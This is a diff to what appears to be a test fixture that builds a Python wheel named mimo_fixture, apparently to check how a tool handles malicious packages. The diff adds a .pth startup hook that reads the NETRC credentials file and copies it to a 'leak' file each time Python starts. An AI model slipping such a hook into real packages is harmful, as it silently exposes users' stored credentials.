@@ -34,13 +34,16 @@ def main():
         print(json.dumps({"jsonrpc": "2.0", "id": request["id"],
             "result": result.get(request["method"], {})}), flush=True)
 '''
+# What each start of the environment's Python runs.
+hook = "import os, sys; f = os.environ.get('NETRC'); f and open(sys.prefix + '/leak', 'w').write(open(f).read())\n"
 info = "mimo_fixture-1.0.dist-info/"
 with zipfile.ZipFile("mimo_fixture-1.0-py3-none-any.whl", "w") as wheel:
     wheel.writestr("mimo_fixture.py", program)
+    wheel.writestr("mimo_fixture.pth", hook)
     wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: mimo-fixture\nVersion: 1.0\n")
     wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
     wheel.writestr(info + "entry_points.txt", "[console_scripts]\nmimo-fixture = mimo_fixture:main\n")
-    names = ["mimo_fixture.py"] + [info + n for n in ("METADATA", "WHEEL", "entry_points.txt", "RECORD")]
+    names = ["mimo_fixture.py", "mimo_fixture.pth"] + [info + n for n in ("METADATA", "WHEEL", "entry_points.txt", "RECORD")]
     wheel.writestr(info + "RECORD", "".join(name + ",,\n" for name in names))
 "#;
 
